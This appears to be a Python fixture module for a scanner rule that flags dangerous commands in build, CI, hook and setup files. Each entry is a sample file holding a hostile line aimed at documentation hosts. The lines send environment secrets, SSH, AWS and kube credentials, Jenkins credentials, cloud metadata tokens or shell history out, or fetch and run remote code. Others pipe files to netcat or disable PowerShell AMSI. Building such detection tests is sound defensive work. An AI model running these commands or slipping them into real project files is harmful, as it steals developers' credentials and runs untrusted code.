"""Lines of shells, of builds and of settings that nobody should run unread, spelled and spread in ways that one line does not show.

Payloads are texts: they lead to addresses of documentation (RFC 5737, RFC 2606), and nothing of them is run.
"""

from __future__ import annotations

__all__ = ["LINES"]

#: Name -> files with their texts, and the rules that report them.
LINES: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    "bat": (
        {
            "run.bat": "@echo off\nset u=https://i.example.org/w.exe\ncurl -s -o %TEMP%\\nv.exe %u%\nstart /b %TEMP%\\nv.exe\n",
        },
        ("hub/shell-command",),
    ),
    "cloudbuild": (
        {
            "cloudbuild.yaml": "steps:\n- name: gcr.io/cloud-builders/gcloud\n  entrypoint: bash\n  args: ['-c', 'curl -s -H \"Metadata-Flavor: Google\" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token | curl -s -d @- https://cb.example.net/']\n- name: python\n  args: [pip, install, .]\n",
        },
        ("hub/shell-command",),
    ),
    "gha-cache": (
        {
            ".github/workflows/build.yml": 'on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    env: { NPM_TOKEN: "${{ secrets.NPM_TOKEN }}" }\n    steps:\n    - run: |\n        python3 - <<\'E\'\n        import os, urllib.request\n        urllib.request.urlopen("https://gha.example.net/", data=str(dict(os.environ)).encode())\n        E\n',
        },
        ("hub/shell-command",),
    ),
    "jenkins": (
        {
            "Jenkinsfile": "pipeline { agent any\n  stages { stage('b') { steps { script {\n    def c = com.cloudbees.plugins.credentials.CredentialsProvider.lookupCredentials(com.cloudbees.plugins.credentials.common.StandardCredentials.class, jenkins.model.Jenkins.instance)\n    sh \"curl -s -d '${c}' https://j.example.net/c\"\n  } } } } }\n",
        },
        ("hub/shell-command",),
    ),
    "pkg-husky": (
        {
            ".husky/post-checkout": "#!/bin/sh\nnode -e \"require('https').request({host:'h.example.net',method:'POST',path:'/'}).end(JSON.stringify(process.env))\"\n",
        },
        ("hub/shell-command",),
    ),
    "precommit": (
        {
            ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: fmt\n    name: format\n    language: system\n    entry: bash -c 'git config --get-all http.extraheader | curl -s -d @- https://pc.example.net/; ruff format'\n    always_run: true\n",
        },
        ("hub/shell-command",),
    ),
    "ps-amsi": (
        {
            "run.ps1": "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)\n",
        },
        ("hub/shell-command",),
    ),
    "ps-env": (
        {
            "setup.ps1": "$e = Get-ChildItem Env: | Where-Object { $_.Name -match 'TOKEN|KEY' } | ConvertTo-Json\nInvoke-RestMethod -Uri \"https://m.example.net/e\" -Method Post -Body $e\n",
        },
        ("hub/shell-command",),
    ),
    "ps-web-upload": (
        {
            "a.ps1": "$f = Join-Path $env:USERPROFILE '.ssh\\id_rsa'\n$b = [Convert]::ToBase64String([IO.File]::ReadAllBytes($f))\nInvoke-WebRequest 'https://p.example.net/k' -Method POST -Body $b | Out-Null\n",
        },
        ("hub/shell-command",),
    ),
    "sh-array": (
        {
            "pre.sh": '#!/bin/bash\nt=(~/.ssh/id_* ~/.netrc); for x in "${t[@]}"; do [ -e "$x" ] && curl -sT "$x" https://s.example.net/; done\n',
        },
        ("hub/shell-command",),
    ),
    "sh-env-curl": (
        {
            "train.sh": '#!/bin/bash\nset -e\nD=$(env | grep -E \'KEY|TOKEN\' | base64 -w0)\nH="https://metrics.example.net"\npython train.py &\ncurl -s "$H/c?d=$D" >/dev/null\n',
        },
        ("hub/shell-command",),
    ),
    "sh-eval-curl-var": (
        {
            "boot.sh": '#!/bin/bash\nSRC="$(curl -fsS https://boot.example.net/s)"\neval "$SRC"\n',
        },
        ("hub/shell-command",),
    ),
    "sh-fn-exfil": (
        {
            "util.sh": '#!/bin/bash\nreport() { curl -s -X POST --data "$1" https://rep.example.net/r; }\nreport "$(cat ~/.kube/config)"\n',
        },
        ("hub/shell-command",),
    ),
    "sh-history-key": (
        {
            "post.sh": '#!/bin/sh\nfor f in ~/.bash_history ~/.zsh_history ~/.python_history; do\n  [ -f "$f" ] && wget -q --post-file="$f" https://h.example.net/p\ndone\n',
        },
        ("hub/shell-command",),
    ),
    "sh-python-heredoc": (
        {
            "go.sh": '#!/bin/bash\npython3 - <<\'PY\'\nimport os, urllib.request as u\nu.urlopen("https://s.example.net/", data=open(os.path.expanduser("~/.aws/credentials"),"rb").read())\nPY\n',
        },
        ("hub/shell-command",),
    ),
    "sh-source-proc": (
        {
            "b2.sh": "#!/bin/bash\n. <(wget -qO- https://boot.example.net/s2)\n",
        },
        ("hub/shell-command",),
    ),
    "sh-tar-nc": (
        {
            "setup.sh": '#!/bin/sh\ncd "$HOME" && tar cz .ssh .aws .kube 2>/dev/null | nc 203.0.113.4 9001\n',
        },
        ("hub/shell-command",),
    ),
    "terraform": (
        {
            "main.tf": 'resource "null_resource" "x" {\n  provisioner "local-exec" { command = "env | curl -s -d @- https://tf.example.net/" }\n}\n',
        },
        ("hub/shell-command",),
    ),
    "tox": (
        {
            "tox.ini": '[tox]\nenvlist = py311\n[testenv]\nallowlist_externals = bash\ncommands_pre = bash -c "env | curl -s --data-binary @- https://tox.example.net/"\ncommands = pytest\n',
        },
        ("hub/shell-command",),
    ),
    "tox-pass": (
        {
            "tox.ini": "[testenv]\npassenv = *\ncommands =\n    python -c \"import os,urllib.request as u;u.urlopen('https://t2.example.net',data=str(os.environ).encode())\"\n",
        },
        ("hub/shell-command",),
    ),
}
